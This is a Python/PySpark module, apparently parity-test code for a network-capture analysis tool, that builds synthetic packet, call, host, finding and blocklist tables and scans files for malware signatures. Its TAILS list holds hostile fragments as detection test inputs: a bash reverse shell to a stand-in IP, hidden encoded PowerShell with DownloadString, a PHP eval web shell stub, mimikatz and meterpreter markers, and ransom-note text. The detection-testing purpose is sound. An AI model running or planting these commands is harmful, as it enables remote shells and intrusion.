"""Fact tables and reports on tables made of the driver's events, beside SQL that gives the same rows."""

from __future__ import annotations

import ipaddress
from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..functions import columns, fixed
from ..operators import facts, literals, reassembly, reputation
from . import captures, report, rules
from .rule_queries import CAP, CLIENT, TS, case, group, of
from .rule_queries import MADE as RULE_MADE
from .rule_queries import TUNNEL

FACT_QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
FACT_SQL: dict[str, str] = {}

MADE: dict[str, str] = {
    "sip": f"""SELECT 'a' AS capture_id, event_id AS number, {TS} AS ts, concat('c', event_id % 700) AS call_id, event_id % 2 = 0 AS is_request, {case("user_id % 5", "INVITE", "BYE", "ACK", "CANCEL", otherwise="'INVITE'")} AS method,
  CASE WHEN event_id % 2 = 0 THEN NULL ELSE CAST({case("user_id % 4", 180, 200, 486, otherwise=100)} AS BIGINT) END AS status, concat('sip:', user_id % 9, '@x') AS from_uri, concat('sip:', user_id % 7, '@y') AS to_uri, {CLIENT} AS src_ip, concat('10.0.1.', event_id % 9) AS dst_ip,
  CASE WHEN event_id % 3 = 0 THEN {CLIENT} ELSE NULL END AS media_ip, CASE WHEN event_id % 3 = 0 THEN 10000 + event_id % 4 ELSE NULL END AS media_port, event_id % 11 = 0 AS srtp, CASE WHEN event_id % 5 = 0 THEN 'me' ELSE '' END AS auth_user FROM events""",
    "rtp": f"SELECT 'a' AS capture_id, event_id AS number, {TS} AS ts, concat('10.0.0.', event_id % 50) AS src_ip, CAST(4000 AS BIGINT) AS src_port, '10.0.1.1' AS dst_ip, CAST(5000 AS BIGINT) AS dst_port, event_id % 50 AS ssrc, (event_id - event_id % 50) / 25 + user_id % 3 AS seq, CAST({case('event_id % 50', 0, 3, 8, 9, 18, 34, 96, 97, otherwise=0)} AS BIGINT) AS payload_type, 100 + user_id AS bytes FROM events",
    "packets": f"""SELECT {CAP}, event_id AS number, {TS} AS ts, 60 + event_id % 900 AS wirelen, CASE WHEN event_id % 20 = 0 THEN NULL ELSE {CLIENT} END AS src_ip, CASE WHEN event_id % 20 = 0 THEN NULL ELSE concat('10.0.1.', event_id % 9) END AS dst_ip, CASE WHEN event_id % 20 = 0 THEN NULL ELSE CAST({case("event_id % 6", 1, 6, 17, 58, 50, otherwise=200)} AS BIGINT) END AS protocol,
  CASE WHEN event_id % 40 = 0 THEN CAST(1 AS BIGINT) ELSE NULL END AS arp_op, CASE WHEN event_id % 6 = 2 THEN CAST(CASE WHEN user_id % 5 = 0 THEN 137 ELSE 5000 END AS BIGINT) ELSE NULL END AS src_port, CAST(NULL AS BIGINT) AS dst_port, {case("event_id % 4", "VLAN", "MPLS x", "GRE", otherwise="'VLAN y'")} AS enclosing,
  CAST({case("event_id % 3", 1, 113, otherwise=101)} AS INT) AS linktype, CAST({case("event_id % 2", 2048, otherwise=34525)} AS BIGINT) AS ethertype FROM events""",
    "conversation": f"""SELECT 'a' AS capture_id, event_id AS number, {TS} AS ts, CASE WHEN user_id % 8 = 0 THEN '10.9.9.9' ELSE concat('10.0.0.', user_id % 6) END AS src_ip, CASE WHEN user_id % 8 = 0 THEN concat('10.0.0.', user_id % 6) ELSE '10.9.9.9' END AS dst_ip, CAST(CASE WHEN user_id % 2 = 0 THEN 17 ELSE 6 END AS BIGINT) AS protocol,
  CAST(CASE WHEN user_id % 8 = 0 THEN 99 ELSE 40000 + user_id % 6 END AS BIGINT) AS src_port, CAST(CASE WHEN user_id % 8 = 0 THEN 40000 + user_id % 6 ELSE 99 END AS BIGINT) AS dst_port, CASE WHEN user_id % 2 = 0 THEN NULL WHEN user_id % 6 = 1 AND event_id % 7 = 0 THEN CAST(2 AS BIGINT) ELSE CAST(16 AS BIGINT) END AS tcp_flags, 60 AS wirelen FROM events""",
    "hosts": f"SELECT {CAP}, concat(CASE WHEN user_id % 3 = 0 THEN '45.77.0.' ELSE '10.0.0.' END, user_id % 50) AS ip, count(*) AS n_peers, CAST(sum(event_id) AS BIGINT) AS bytes_sent, CAST(sum(user_id) AS BIGINT) AS bytes_received, max(user_id) % 7 = 0 AS serves, user_id % 3 > 0 AS is_private FROM events GROUP BY user_id % 2, user_id % 3, user_id % 50",
    "flows": f"SELECT {CAP}, concat(CASE WHEN user_id % 3 = 0 THEN '45.77.0.' ELSE '10.0.0.' END, user_id % 50) AS src, concat('10.0.0.', event_id % 50) AS dst, event_id AS bytes_out, event_id % 7 AS bytes_in, event_id % 5 AS packets FROM events",
    "findings": f"""SELECT {CAP}, {case("event_id % 6", "c2.beacon", "dns.tunneling", "web.sqli", "tls.rare_fingerprint", "infra.ip_literal_http", otherwise="'quic.in_use'")} AS id, concat('t', user_id % 4) AS title, {case("event_id % 5", "critical", "high", "medium", "low", otherwise="'info'")} AS severity, {case("event_id % 3", "high", "medium", otherwise="'low'")} AS confidence,
  concat(CASE WHEN user_id % 3 = 0 THEN '45.77.0.' ELSE '10.0.0.' END, user_id % 50) AS host, concat('evil', user_id % 20, '.example') AS domain, md5(CAST(user_id AS STRING)) AS ja3, event_id FROM events""",
}
#: What texts are put behind to make files of them, and heads of IPv6 addresses with their digits.
HEADS = (
    *(m for m, _, _ in fixed.FILE_MAGICS), *(b"PK\x03\x04 " + m.encode() for m, _, _ in fixed.ZIP_SUBTYPES), b"RIFF1234WAVEfmt", b"RIFF1234AVI ", b"RIFF1234WEBPVP8", b"<?PHP echo 1; ?>", b"var x = function() { return 1 }",
    b"PowerShell -e AAAA", b"run -EncodedCommand AAAA", b"\x01\x02\x03\x04abc\x05\x06", b"\x01\x02\x03" * 14, b"",
)
NETS = (("2606:4700", "26064700"), ("2a03:2880", "2a032880"), ("2001:db8", "20010db8"), ("fe80", "fe80"), ("2001:67a", "2001067a"), ("2400", "2400"), ("fc01", "fc01"), ("2620:1ec", "262001ec"), ("2803", "2803"), ("3fff", "3fff"))
MADE["addresses"] = f"""SELECT event_id, CASE WHEN event_id % 3 > 0 THEN concat(event_id * 37 % 256, '.', user_id * 11 % 256, '.', event_id % 256, '.', user_id % 256) WHEN event_id % 33 = 0 THEN concat('host', user_id, '.example')
    ELSE concat({case(f"event_id % {len(NETS)}", *(n for n, _ in NETS), otherwise="''")}, '::', lower(hex(user_id % 65536)), ':', lower(hex(event_id % 65536))) END AS ip,
  CASE WHEN event_id % 3 > 0 THEN (event_id * 37 % 256) * 16777216 + (user_id * 11 % 256) * 65536 + (event_id % 256) * 256 + user_id % 256 ELSE NULL END AS n,
  CASE WHEN event_id % 3 > 0 OR event_id % 33 = 0 THEN NULL ELSE concat(rpad({case(f"event_id % {len(NETS)}", *(d for _, d in NETS), otherwise="''")}, 24, '0'), lpad(lower(hex(user_id % 65536)), 4, '0'), lpad(lower(hex(event_id % 65536)), 4, '0')) END AS d FROM events"""


def made(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    spark.read.parquet(f"{sf_dir}/events.parquet").createOrReplaceTempView("wiretide_events")
    return spark.sql(MADE[name].replace("FROM events", "FROM wiretide_events"))


def query(sql: str) -> Callable:
    def add(f: Callable[[SparkSession, str], DataFrame]) -> Callable:
        FACT_QUERIES[f.__name__] = f
        FACT_SQL[f.__name__] = sql
        return f

    return add


@query(f"""WITH m AS ({MADE['sip']})
SELECT call_id, arg_min(from_uri, number) FILTER (is_request AND method = 'INVITE') AS caller, arg_min(to_uri, number) FILTER (is_request AND method = 'INVITE') AS callee, min(ts) FILTER (is_request AND method = 'INVITE') AS invited, max(ts) FILTER (status = 180) AS ringing,
  min(ts) FILTER (status = 200 AND method = 'INVITE') AS answered, max(ts) FILTER (is_request AND method IN ('BYE', 'CANCEL')) AS ended, arg_max(status, number) FILTER (status >= 200) AS final_status, count(*) AS messages, bool_or(srtp) AS srtp, count(*) FILTER (auth_user <> '') AS auth_attempts,
  CAST(count(DISTINCT concat(media_ip, ':', media_port)) FILTER (media_port IS NOT NULL) AS BIGINT) AS n_endpoints,
  CASE WHEN min(ts) FILTER (status = 200 AND method = 'INVITE') IS NOT NULL AND max(ts) FILTER (is_request AND method IN ('BYE', 'CANCEL')) IS NOT NULL THEN 'completed' WHEN min(ts) FILTER (status = 200 AND method = 'INVITE') IS NOT NULL THEN 'answered'
    WHEN arg_max(status, number) FILTER (status >= 200) >= 400 THEN 'failed' WHEN max(ts) FILTER (status = 180) IS NOT NULL THEN 'ringing' ELSE 'attempted' END AS state FROM m GROUP BY call_id""")
def fact_calls(spark: SparkSession, sf_dir: str) -> DataFrame:
    c = facts.calls(made(spark, sf_dir, "sip"))
    return c.select("call_id", "caller", "callee", "invited", "ringing", "answered", "ended", "final_status", "messages", "srtp", "auth_attempts", F.size("endpoints").cast("long").alias("n_endpoints"), "state")


@query(f"""WITH m AS ({MADE['rtp']}), s AS (SELECT ssrc, count(*) AS packets, CAST(sum(bytes) AS BIGINT) AS bytes, CAST(arg_min(seq, number) AS BIGINT) AS a, CAST(arg_max(seq, number) AS BIGINT) AS b, arg_min(payload_type, number) AS p FROM m GROUP BY ssrc HAVING count(*) >= 4)
SELECT ssrc, packets, bytes, greatest(b - a + 1, packets) AS expected_packets, greatest(b - a + 1, packets) - packets AS lost_packets, round((greatest(b - a + 1, packets) - packets) * 100.0 / greatest(b - a + 1, packets), 2) AS loss_percent,
  CASE p WHEN 0 THEN 'G.711 u-law' WHEN 3 THEN 'GSM' WHEN 8 THEN 'G.711 A-law' WHEN 9 THEN 'G.722' WHEN 18 THEN 'G.729' WHEN 34 THEN 'H.263' ELSE concat('dynamic ', p) END AS codec FROM s""")
def fact_rtp_streams(spark: SparkSession, sf_dir: str) -> DataFrame:
    rtp = made(spark, sf_dir, "rtp").withColumn("sequence", F.col("seq").cast("long"))
    return facts.rtp_streams(rtp).select("ssrc", "packets", "bytes", "expected_packets", "lost_packets", F.col("loss_percent").cast("double"), "codec")


@query(f"""WITH m AS ({RULE_MADE['arp']}) SELECT capture_id, arp_sender_ip AS ip, string_agg(DISTINCT arp_sender_mac, ',' ORDER BY arp_sender_mac) AS macs FROM m GROUP BY ALL""")
def fact_arp_owners(spark: SparkSession, sf_dir: str) -> DataFrame:
    from .rule_queries import made as rule_made

    return facts.arp_owners(rule_made(spark, sf_dir, "arp")).withColumn("macs", F.array_join("macs", ","))


@query(f"""WITH m AS ({RULE_MADE['wifi']}) SELECT capture_id, ssid, string_agg(DISTINCT bssid, ',' ORDER BY bssid) AS bssids, string_agg(DISTINCT security, ',' ORDER BY security) AS security, count(*) AS beacons FROM m WHERE subtype IN ('beacon', 'probe response') AND ssid IS NOT NULL GROUP BY ALL""")
def fact_wifi_networks(spark: SparkSession, sf_dir: str) -> DataFrame:
    from .rule_queries import made as rule_made

    n = facts.wifi_networks(rule_made(spark, sf_dir, "wifi"))
    return n.withColumns({"bssids": F.array_join("bssids", ","), "security": F.array_join("security", ",")})


@query(f"""WITH m AS ({MADE['packets']}), n AS (SELECT capture_id, CASE WHEN arp_op IS NOT NULL THEN 'ARP' WHEN src_ip IS NULL THEN 'Non-IP' WHEN protocol = 1 THEN 'ICMP' WHEN protocol = 6 THEN 'TCP' WHEN protocol = 17 THEN 'UDP' WHEN protocol = 58 THEN 'ICMPv6' WHEN protocol = 50 THEN 'ESP' ELSE concat('IP proto ', protocol) END AS name, wirelen FROM m
  UNION ALL SELECT capture_id, 'NBNS', wirelen FROM m WHERE protocol = 17 AND src_port = 137)
SELECT capture_id, name, count(*) AS packets, CAST(sum(wirelen) AS BIGINT) AS bytes FROM n GROUP BY ALL""")
def fact_protocol_counts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return facts.protocol_counts(made(spark, sf_dir, "packets").withColumn("payload", F.lit(b"x")))


@query(f"WITH m AS ({MADE['packets']}) SELECT capture_id, string_split(enclosing, ' ')[1] AS name, count(*) AS packets FROM m GROUP BY ALL")
def fact_encapsulations(spark: SparkSession, sf_dir: str) -> DataFrame:
    return facts.encapsulations(made(spark, sf_dir, "packets").withColumn("encapsulation", F.array("enclosing")))


@query(f"WITH m AS ({MADE['packets']}) SELECT capture_id, linktype, ethertype, count(*) AS packets FROM m GROUP BY ALL")
def fact_links(spark: SparkSession, sf_dir: str) -> DataFrame:
    return facts.links(made(spark, sf_dir, "packets"))


@query(f"""WITH m AS ({RULE_MADE['smb']}), n AS (SELECT capture_id, 'version' AS kind, version AS name, count(*) AS messages FROM m GROUP BY ALL UNION ALL SELECT capture_id, 'command', command, count(*) FROM m WHERE NOT is_response GROUP BY ALL
  UNION ALL SELECT capture_id, 'pair', concat(src_ip, ' > ', dst_ip), count(*) FROM m GROUP BY ALL)
SELECT * FROM n QUALIFY row_number() OVER (PARTITION BY capture_id, kind ORDER BY messages DESC, name) <= CASE kind WHEN 'version' THEN 10 WHEN 'command' THEN 12 ELSE 50 END""")
def fact_smb_summary(spark: SparkSession, sf_dir: str) -> DataFrame:
    from .rule_queries import made as rule_made

    return facts.smb_summary(rule_made(spark, sf_dir, "smb"))


@query(f"""WITH m AS ({MADE['conversation']}), k AS (SELECT *, concat(least(src_ip, dst_ip), ' ', greatest(src_ip, dst_ip), ' ', greatest(src_port, dst_port), ' ', protocol) AS k FROM m),
opened AS (SELECT k, bool_or(tcp_flags = 2) AS syn, arg_min(src_ip, number) AS src, arg_min(dst_ip, number) AS dst, arg_min(dst_port, number) AS dport FROM k GROUP BY k),
l AS (SELECT k, list(CAST(ts * 1000000 AS BIGINT) ORDER BY ts) AS t FROM k GROUP BY k),
e AS (SELECT k, unnest(list_reduce(list_transform(t, lambda x: [x]), lambda a, x: CASE WHEN x[1] - a[-1] > 2000000 THEN list_concat(a, x) ELSE a END)) AS us FROM l)
SELECT src_ip AS src, dst_ip AS dst, dst_port AS dport, CAST(ts * 1000000 AS BIGINT) AS us FROM m WHERE tcp_flags = 2 UNION ALL SELECT src, dst, dport, us FROM e JOIN opened USING (k) WHERE NOT coalesce(syn, false)""")
def fact_connection_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = made(spark, sf_dir, "conversation")
    return facts.connection_events(p, facts.flows(p)).select("src", "dst", "dport", "us")


def _hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    return made(spark, sf_dir, "hosts").withColumn("ports_served", F.when(F.col("serves"), F.array(F.lit(80))).otherwise(F.array(F.lit(8080))))


@query(f"WITH h AS ({MADE['hosts']}) SELECT capture_id, ip, CASE WHEN serves THEN 'server' WHEN NOT is_private THEN 'external' WHEN n_peers > 20 THEN 'hub' ELSE 'client' END AS role FROM h")
def fact_host_roles(spark: SparkSession, sf_dir: str) -> DataFrame:
    return facts.host_roles(_hosts(spark, sf_dir)).select("capture_id", "ip", "role")


# reports ------------------------------------------------------------------------------------------------------


def _findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    f = made(spark, sf_dir, "findings")
    return f.select("capture_id", "id", "title", "severity", "confidence", F.array("host").alias("hosts"), F.array(F.to_json(F.struct("domain", "ja3"))).alias("evidence"), F.lit(0.0).alias("first_seen"), F.col("event_id").alias("count"))


WEIGHT = "CASE severity WHEN 'critical' THEN 0.42 WHEN 'high' THEN 0.24 WHEN 'medium' THEN 0.10 WHEN 'low' THEN 0.035 ELSE 0 END * CASE confidence WHEN 'high' THEN 1.0 WHEN 'medium' THEN 0.75 ELSE 0.5 END"
RISK_SQL = f"""f AS ({MADE['findings']}), p AS (SELECT capture_id, CAST({WEIGHT} AS DOUBLE) AS w, string_split(id, '.')[1] AS family, severity FROM f),
r AS (SELECT capture_id, w * pow(0.5, row_number() OVER (PARTITION BY capture_id, family ORDER BY CASE severity WHEN 'critical' THEN 4 WHEN 'high' THEN 3 WHEN 'medium' THEN 2 ELSE 1 END DESC, w DESC) - 1) AS p FROM p WHERE w > 0),
risk AS (SELECT capture_id, CAST(round((1 - exp(sum(ln(1 - p)))) * 100) AS BIGINT) AS risk FROM r GROUP BY capture_id),
hosts AS (SELECT capture_id, host AS ip, CAST(least(100, sum(CASE severity WHEN 'critical' THEN 40 WHEN 'high' THEN 20 WHEN 'medium' THEN 8 WHEN 'low' THEN 3 ELSE 0 END)) AS BIGINT) AS risk FROM f GROUP BY ALL)"""


@query(f"WITH {RISK_SQL} SELECT capture_id, ip, risk FROM hosts")
def report_host_risks(spark: SparkSession, sf_dir: str) -> DataFrame:
    return report.host_risks(_findings(spark, sf_dir))


TOP_SQL = f"""{RISK_SQL}, h AS ({MADE['hosts']}), e AS ({MADE['flows']}),
top AS (SELECT h.capture_id, h.ip, coalesce(r.risk, 0) AS risk, bytes_sent + bytes_received AS bytes FROM h LEFT JOIN hosts r ON r.capture_id = h.capture_id AND r.ip = h.ip QUALIFY row_number() OVER (PARTITION BY h.capture_id ORDER BY coalesce(r.risk, 0) DESC, bytes_sent + bytes_received DESC, h.ip) <= 300)"""


@query(f"WITH {TOP_SQL} SELECT capture_id, ip, risk, bytes, concat(array_to_string(string_split(ip, '.')[1:3], '.'), '.0/24') AS \"group\", round(pow(bytes / CAST(max(bytes) OVER (PARTITION BY capture_id) AS DOUBLE), 0.4), 4) AS weight FROM top")
def report_graph_nodes(spark: SparkSession, sf_dir: str) -> DataFrame:
    t = {"hosts": _hosts(spark, sf_dir), "flows": made(spark, sf_dir, "flows")}
    return report.graph(t, _findings(spark, sf_dir))[0]


@query(f"""WITH {TOP_SQL}, pairs AS (SELECT capture_id, least(src, dst) AS a, greatest(src, dst) AS b, CAST(sum(bytes_out + bytes_in) AS BIGINT) AS bytes, CAST(sum(packets) AS BIGINT) AS packets FROM e GROUP BY ALL),
g AS (SELECT DISTINCT capture_id, host FROM f WHERE severity IN ('critical', 'high')),
k AS (SELECT p.*, EXISTS (SELECT 1 FROM g WHERE g.capture_id = p.capture_id AND g.host = p.a) AND EXISTS (SELECT 1 FROM g WHERE g.capture_id = p.capture_id AND g.host = p.b) AS suspect
  FROM pairs p JOIN top x ON x.capture_id = p.capture_id AND x.ip = p.a JOIN top y ON y.capture_id = p.capture_id AND y.ip = p.b QUALIFY row_number() OVER (PARTITION BY p.capture_id ORDER BY p.bytes DESC, a, b) <= 900)
SELECT capture_id, a, b, bytes, packets, suspect, round(pow(bytes / CAST(max(bytes) OVER (PARTITION BY capture_id) AS DOUBLE), 0.35), 4) AS weight FROM k""")
def report_graph_edges(spark: SparkSession, sf_dir: str) -> DataFrame:
    t = {"hosts": _hosts(spark, sf_dir), "flows": made(spark, sf_dir, "flows")}
    return report.graph(t, _findings(spark, sf_dir))[1]


@query(f"""WITH f AS ({MADE['findings']}), o AS (SELECT capture_id, 'ip' AS kind, host AS value FROM f WHERE severity IN ('critical', 'high', 'medium') AND host NOT LIKE '10.%' UNION SELECT capture_id, 'domain', domain FROM f WHERE severity IN ('critical', 'high')
  UNION SELECT capture_id, 'ja3', ja3 FROM f WHERE id = 'tls.rare_fingerprint' UNION SELECT capture_id, 'sha256', md5(CAST(event_id % 700 AS VARCHAR)) FROM ({RULE_MADE['files'].replace(' AS number', ' AS event_id')}) WHERE category = 'executable' OR sig IS NOT NULL)
SELECT capture_id, kind, value, CASE WHEN kind IN ('ip', 'domain') THEN replace(value, '.', '[.]') ELSE value END AS defanged FROM o""")
def report_iocs(spark: SparkSession, sf_dir: str) -> DataFrame:
    from .rule_queries import made as rule_made

    return report.iocs({"files": rule_made(spark, sf_dir, "files")}, _findings(spark, sf_dir))


def _hex(x: bytes | str) -> str:
    return (x if isinstance(x, bytes) else x.encode()).hex().upper()


def _has(where: str, what: str) -> str:
    """SQL: whether hex digits hold a text's bytes."""
    return f"list_contains(list_transform(range(0, len({where}) // 2), lambda i: substr({where}, 2 * i + 1, {2 * len(what)})), '{_hex(what)}')" if len(what) < 4 else f"contains({where}, '{_hex(what)}')"


@query(f"""WITH f AS (SELECT doc_id, concat([{", ".join(f"'{_hex(h)}'" for h in HEADS)}][CAST(doc_id % {len(HEADS)} AS INT) + 1], hex(encode(coalesce(text, '')))) AS h FROM documents),
p AS (SELECT doc_id, h, substr(h, 1, 16384) AS head, regexp_extract_all(substr(h, 1, 1024), '..') AS b FROM f),
l AS (SELECT *, array_to_string(list_transform(b, lambda x: CASE WHEN x BETWEEN '41' AND '5A' THEN concat(CASE WHEN x < '50' THEN '6' ELSE '7' END, x[2]) ELSE x END), '') AS low, len(list_filter(b, lambda x: x IN ('09', '0A', '0D') OR x BETWEEN '20' AND '7E')) AS shown FROM p)
SELECT doc_id, CASE WHEN starts_with(h, '{_hex(b"PK" + bytes([3, 4]))}') THEN CASE {" ".join(f"WHEN {_has('head', m)} THEN '{k}'" for m, k, _ in fixed.ZIP_SUBTYPES)} ELSE 'zip' END
  WHEN starts_with(h, '{_hex("RIFF")}') THEN CASE substr(h, 17, 8) WHEN '{_hex("WAVE")}' THEN 'wav' WHEN '{_hex("AVI ")}' THEN 'avi' WHEN '{_hex("WEBP")}' THEN 'webp' ELSE 'riff' END
  {" ".join(f"WHEN starts_with(h, '{_hex(m)}') THEN '{k}'" for m, k, _ in fixed.FILE_MAGICS)}
  WHEN len(b) > 0 AND shown > 0.92 * len(b) THEN CASE WHEN {_has('low', '<?php')} THEN 'php' WHEN {_has('low', 'function')} AND {_has('low', 'var ')} THEN 'js' WHEN {_has('low', 'powershell')} OR {_has('low', '-encodedcommand')} THEN 'ps1' ELSE 'txt' END ELSE 'bin' END AS kind FROM l""")
def fact_file_types(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The type of a file made of each document: first bytes of some kind, then its text."""
    heads = F.array(*[F.lit(h) for h in HEADS])
    text = F.encode(F.coalesce("text", F.lit("")), "UTF-8")
    d = spark.read.parquet(f"{sf_dir}/documents.parquet")
    return d.select("doc_id", columns.identified(F.concat(F.element_at(heads, (F.col("doc_id") % len(HEADS)).cast("int") + 1), text)).alias("kind"))


#: What texts are put before, so that each signature is met and missed, and the types that files are taken for.
TAILS = (
    "", "PowerShell.exe -w hidden -Enc " + "QUJD" * 12, "IEX Invoke-Expression DownloadString(", "iex invoke-expression downloadstring(", "/OpenAction /JS", "/Launch", "Document_Open CreateObject( 'WScript", "<?php eval( $_POST[1])", "bash -i >& /dev/tcp/1.2.3.4/9",
    "New-Object System.Net.Sockets.TCPClient", "SEKURLSA", "sekurlsa", "ReflectiveLoader meterpreter", "All your files were ENCRYPTED: Monero", "your files are encrypted", "bcdedit /set recoveryenabled no", "UPX0 UPX!", "-----BEGIN EC PRIVATE KEY", "akia" + "A" * 16, "AKIA" + "B7" * 8,
    "xoxb-12345678901", "stratum+tcp://pool.example:1", "SbieDll.dll qemu-ga", "metsrv.dll", "UPX0",
)
FILE_KINDS = ("pdf", "docx", "txt", "ole")


def _signature(name: str, severity: str, words: tuple, patterns: tuple, least: int, types: tuple) -> str:
    tests = [f"contains(t, $${w}$$)" for w in words] + [f"regexp_matches(t, $${p}$$)" for p in patterns]
    kinds = f" AND kind IN ({', '.join(repr(k) for k in types)})" if types else ""
    return f"SELECT doc_id, $${name}$$ AS signature, '{severity}' AS severity FROM f WHERE {' + '.join(f'CAST({x} AS INT)' for x in tests)} >= {least or len(tests)}{kinds}"


@query(f"""WITH f AS (SELECT doc_id, [{", ".join(f"'{k}'" for k in FILE_KINDS)}][CAST(doc_id % {len(FILE_KINDS)} AS INT) + 1] AS kind, concat(coalesce(text, ''), ' ', [{", ".join(f"$${t}$$" for t in TAILS)}][CAST(doc_id % {len(TAILS)} AS INT) + 1]) AS t FROM documents)
{" UNION ALL ".join(_signature(*x) for x in reassembly.SIGNATURES)}""")
def file_signature_scan(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The signatures of a file made of each whole document: one pass for all literals, patterns where theirs are found."""
    of = lambda all_: F.element_at(F.array(*[F.lit(x) for x in all_]), (F.col("doc_id") % len(all_)).cast("int") + 1)
    d = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", of(FILE_KINDS).alias("kind"), F.concat(F.coalesce("text", F.lit("")), F.lit(" "), of(TAILS)).alias("t"))
    s = literals.with_literals(d, "t", reassembly.signature_literals())
    return s.select("doc_id", F.explode(reassembly.signatures(F.col("literals"), F.col("t"), F.col("kind"))).alias("s")).select("doc_id", F.col("s.name").alias("signature"), "s.severity")


def _among(ranges: list[tuple[str, str]]) -> str:
    """SQL: label of the first range that holds the number n or the digits d."""

    def test(cidr: str) -> str:
        if ":" not in cidr:
            return "n BETWEEN {} AND {}".format(*columns.bounds(cidr))
        net = ipaddress.ip_network(cidr)
        return f"d BETWEEN '{net.network_address.packed.hex()}' AND '{net.broadcast_address.packed.hex()}'"

    return "CASE " + " ".join(f"WHEN {test(c)} THEN '{label}'" for c, label in ranges) + " END"


KNOWN = [*fixed.KNOWN_NETWORKS, *fixed.KNOWN_NETWORKS_V6]


@query(f"""WITH m AS ({MADE['addresses']}),
s AS (SELECT *, {_among([(c, x) for c, x, _ in fixed.SPECIAL_RANGES])} AS s1, {_among([(c, x) for c, _, x in fixed.SPECIAL_RANGES])} AS s2, {_among([(c, x) for c, x, _ in KNOWN])} AS k1, {_among([(c, x) for c, _, x in KNOWN])} AS k2 FROM m)
SELECT event_id, ip, coalesce(s1, k1) AS operator, coalesce(s2, k2) AS category, CASE WHEN n IS NOT NULL OR d IS NOT NULL THEN coalesce(s2, 'public') END AS scope,
  CASE WHEN s1 IS NULL THEN CASE {" ".join(f"WHEN {' OR '.join(f'n // 16777216 BETWEEN {a} AND {b}' for a, b in spans)} THEN '{r}'" for r, spans in fixed.REGISTRIES.items())}
    {" ".join(f"WHEN substr(d, 1, 4) IN ({', '.join(repr(x) for x in heads)}) THEN '{r}'" for r, heads in fixed.REGISTRIES_V6.items())} END END AS registry,
  CASE WHEN s1 IS NULL THEN CASE k1 {" ".join(f"WHEN '{o}' THEN '{c}'" for o, c in fixed.COUNTRY_HINTS.items())} END END AS country_hint FROM s""")
def fact_enrich(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What fixed tables say of an address of either version for each event."""
    rows = made(spark, sf_dir, "addresses").select("event_id", "ip")
    return rows.select("event_id", "ip", columns.enriched(F.col("ip")).alias("e")).select("event_id", "ip", "e.operator", "e.category", "e.scope", "e.registry", "e.country_hint")


@query(f"""WITH m AS ({MADE['addresses']})
SELECT CASE WHEN d IS NOT NULL THEN concat(d[1:4], ':', d[5:8], ':', d[9:12], ':', d[13:16], '::/64') WHEN n IS NOT NULL THEN concat(array_to_string(string_split(ip, '.')[1:3], '.'), '.0/24') ELSE 'unknown' END AS subnet, count(*) AS n_events, count(DISTINCT ip) AS n_hosts FROM m GROUP BY ALL""")
def subnet_group_both(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Addresses of either version by network."""
    rows = made(spark, sf_dir, "addresses").groupBy("ip").agg(F.count("*").alias("n"))
    return rows.groupBy(columns.subnet(F.col("ip")).alias("subnet")).agg(F.sum("n").alias("n_events"), F.count("*").alias("n_hosts"))


_SEEN = "concat_ws(' ', uri, body, concat_ws(' ', user_agent, referer, cookie))"


@query(f"""WITH r AS (SELECT *, {_SEEN} AS seen FROM ({RULE_MADE['http_requests'].replace('AS STRING', 'AS VARCHAR')})), a AS (SELECT capture_id, number - 1 AS number, status FROM ({RULE_MADE['http_responses']})),
h AS ({" UNION ALL ".join(f"SELECT r.*, $${title}$$ AS title, $${kind}$$ AS kind, {w} AS weight, regexp_extract(seen, $${p}$$, 0) AS m FROM r WHERE regexp_matches(seen, $${p}$$)" for title, kind, w, p in fixed.WEB_PATTERNS)}),
p AS (SELECT *, strpos(seen, m) AS pos FROM h)
SELECT p.capture_id, p.number, title, kind, CAST(weight AS INT) AS weight, left(m, 200) AS matched, CASE WHEN contains(uri, m) THEN 'URI' WHEN contains(body, m) THEN 'request body' ELSE 'header' END AS location,
  substr(seen, greatest(pos - 60, 1), pos + len(m) + 60 - greatest(pos - 60, 1)) AS context, status FROM p LEFT JOIN a ON a.capture_id = p.capture_id AND a.number = p.number""")
def web_attack_evidence(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What matched in each request, with what stands around it and where."""
    from .rule_queries import made as rule_made

    t = {n: rule_made(spark, sf_dir, n) for n in ("http_requests", "http_responses")}
    return rules.web_evidence(t).select("capture_id", "number", "title", "kind", "weight", "matched", "location", "context", "status")


# blocklists ---------------------------------------------------------------------------------------------------

#: Feeds by name, kind, severity and time; the last has no entries and no time.
FEEDS = (("exact", "ip", "high", "TIMESTAMP '2024-01-09 22:10:00'"), ("ranges", "ip", "critical", "TIMESTAMP '2024-01-02 03:25:00'"), ("names", "domain", "medium", "TIMESTAMP '2024-01-08 00:00:00'"), ("urls", "url", "low", "TIMESTAMP '2023-11-30 12:00:00'"), ("empty", "domain", "high", "CAST(NULL AS TIMESTAMP)"))
NOW = "TIMESTAMP '2024-01-10 01:00:00'"
STATUS = " UNION ALL ".join(f"SELECT '{name}' AS name, '{kind}' AS kind, '{severity}' AS severity, {at} AS fetched_at" for name, kind, severity, at in FEEDS)
ENTRIES = """SELECT DISTINCT 'exact' AS feed, 'ip' AS kind, 'high' AS severity, concat('45.77.', c_custkey % 256, '.', c_nationkey) AS value, CAST(NULL AS BIGINT) AS lo, CAST(NULL AS BIGINT) AS hi FROM customer
  UNION ALL SELECT 'ranges', 'ip', 'critical', concat('45.77.', n_nationkey * 5, '.0/26'), CAST(760020992 + n_nationkey * 1280 AS BIGINT), CAST(760020992 + n_nationkey * 1280 + 63 AS BIGINT) FROM nation
  UNION ALL SELECT 'names', 'domain', 'medium', concat('d', s_suppkey * 3, '.example.com'), NULL, NULL FROM supplier UNION ALL SELECT 'urls', 'url', 'low', concat('h', s_nationkey, '.d', s_suppkey, '.example.com'), NULL, NULL FROM supplier"""
SEEN = "SELECT concat('45.77.', user_id % 256, '.', event_id % 256) AS ip, 760020992 + (user_id % 256) * 256 + event_id % 256 AS n, concat('H', event_id % 50, '.d', user_id, '.example.com.') AS domain FROM events"


